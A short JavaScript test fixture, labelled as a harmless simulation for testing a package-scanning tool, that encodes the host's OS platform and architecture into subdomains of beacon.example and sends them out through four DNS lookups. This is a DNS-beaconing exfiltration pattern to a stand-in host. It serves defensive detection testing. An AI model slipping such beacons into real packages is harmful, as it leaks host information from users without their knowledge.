// The honest twin of a harmless simulation for testing Package Hunter. Not malware.

const dns = require("dns");
const os = require("os");

const here = `${os.platform()}-${os.arch()}`;
for (let i = 0; i < 4; i += 1) dns.lookup(`${i}.${here}.beacon.example`, () => {});
